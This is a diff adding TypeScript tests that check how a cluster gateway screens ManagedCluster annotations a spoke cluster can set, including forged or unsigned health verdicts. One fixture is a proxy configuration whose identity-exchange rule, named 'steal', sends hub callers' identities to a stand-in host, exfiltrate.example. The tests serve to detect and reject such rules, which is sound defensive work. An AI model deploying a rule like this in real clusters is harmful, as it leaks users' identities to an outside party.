@@ -10,6 +10,7 @@ import {
   trustedManagedClusterHealth,
 } from './managedcluster-source.ts';
 import { caPem, managedCluster } from './test-fixtures.ts';
+import { signVerdict } from './verdict-signature.ts';
 
 test('address and CA come from the first client config; health from Available', () => {
   const info = parseManagedCluster(
@@ -122,4 +123,92 @@ test('without the ManagedCluster CRD the source is synced and absent, then picks
   assert.equal(source.hasSynced, true);
   assert.equal(source.absent, false);
   assert.deepEqual(seen, ['spoke:https://s']);
+});
+
+// What a managed cluster's klusterlet may write on its own ManagedCluster (OCM v1.3.1 registration
+// gives it `update` there) is screened: nothing that sends identities elsewhere or forges a verdict.
+const withAnnotations = (annotations: Record<string, string>, uid = 'uid-1') => {
+  const mc = managedCluster('spoke', { url: 'https://spoke:6443', available: 'True' });
+  mc.metadata = { ...mc.metadata, uid, annotations };
+  return mc;
+};
+const inline = 'cluster.core.oam.dev/cluster-gateway-proxy-configuration';
+const reference = 'gateway.cluster.core.oam.dev/proxy-configuration';
+const ignoredKey = 'gateway.cluster.core.oam.dev/ignored-managedcluster-settings';
+const config = (rule: string) => `apiVersion: cluster.core.oam.dev/v1alpha1
+kind: ClusterGatewayProxyConfiguration
+spec:
+  clientIdentityExchanger:
+    rules:
+${rule}`;
+const externalRule = `      - name: steal
+        type: ExternalIdentityExchanger
+        source: { userPattern: ".*" }
+        url: https://exfiltrate.example:8443/review
+`;
+const staticRule = `      - name: local
+        type: StaticMappingIdentityExchanger
+        source: { user: alice }
+        target: { user: bob }
+`;
+
+test('an inline configuration with an external exchanger is ignored, saying why; others are kept', () => {
+  const stealing = parseManagedCluster(withAnnotations({ [inline]: config(externalRule + staticRule) }));
+  assert.equal(stealing.annotations[inline], undefined);
+  assert.equal(stealing.ignoredSettings?.length, 1);
+  assert.match(
+    stealing.ignoredSettings?.[0] ?? '',
+    /cluster-gateway-proxy-configuration on ManagedCluster "spoke" is ignored: its rule "steal" is an ExternalIdentityExchanger, which sends hub callers' identities to a URL/,
+  );
+  assert.doesNotMatch(stealing.ignoredSettings?.[0] ?? '', /exfiltrate\.example/, 'the URL is not echoed');
+  const local = parseManagedCluster(withAnnotations({ [inline]: config(staticRule) }));
+  assert.equal(local.annotations[inline], config(staticRule), "the original's annotation keeps working");
+  assert.equal(local.ignoredSettings, undefined);
+  // Invalid: left for the configuration store to refuse (it never comes into force).
+  const invalid = parseManagedCluster(withAnnotations({ [inline]: 'spec: [' }));
+  assert.equal(invalid.annotations[inline], 'spec: [');
+});
+
+test('a reference to a ClusterGatewayProxyConfiguration is not taken from a ManagedCluster', () => {
+  const info = parseManagedCluster(withAnnotations({ [reference]: 'admins-config' }));
+  assert.equal(info.annotations[reference], undefined);
+  assert.match(
+    info.ignoredSettings?.[0] ?? '',
+    /may not choose which ClusterGatewayProxyConfiguration applies/,
+  );
+});
+
+test("the prober's verdict on a ManagedCluster counts only with the gateway's signature", () => {
+  const key = Buffer.from('k'.repeat(32));
+  const verdict = { 'status.cluster.core.oam.dev/probed-healthy': 'true' };
+  const signature = signVerdict(key, { uid: 'uid-1', name: 'spoke', healthy: 'true', reason: '' });
+  const signed = {
+    ...verdict,
+    'status.cluster.core.oam.dev/probed-signature': signature,
+  };
+  const good = parseManagedCluster(withAnnotations(signed), { verdictKey: key });
+  assert.deepEqual(good.probe, { healthy: true });
+  assert.equal(good.ignoredSettings, undefined);
+  assert.equal(good.annotations['status.cluster.core.oam.dev/probed-signature'], undefined, 'not shown');
+  for (const [why, info] of [
+    ['no key', parseManagedCluster(withAnnotations(signed))],
+    ['unsigned', parseManagedCluster(withAnnotations(verdict), { verdictKey: key })],
+    ['another cluster', parseManagedCluster(withAnnotations(signed, 'uid-2'), { verdictKey: key })],
+    [
+      'reason added',
+      parseManagedCluster(withAnnotations({ ...signed, 'status.cluster.core.oam.dev/probed-reason': 'x' }), {
+        verdictKey: key,
+      }),
+    ],
+  ] as const) {
+    assert.equal(info.probe, undefined, why);
+    assert.equal(info.annotations['status.cluster.core.oam.dev/probed-healthy'], undefined, why);
+    assert.match(info.ignoredSettings?.[0] ?? '', /do not carry this gateway's signature/, why);
+  }
+  // The operator's mark is kept; a copy of the gateway's own notice is not.
+  const marked = parseManagedCluster(
+    withAnnotations({ 'status.cluster.core.oam.dev/healthy': 'false', [ignoredKey]: 'forged' }),
+  );
+  assert.equal(marked.annotations['status.cluster.core.oam.dev/healthy'], 'false');
+  assert.equal(marked.annotations[ignoredKey], undefined);
 });
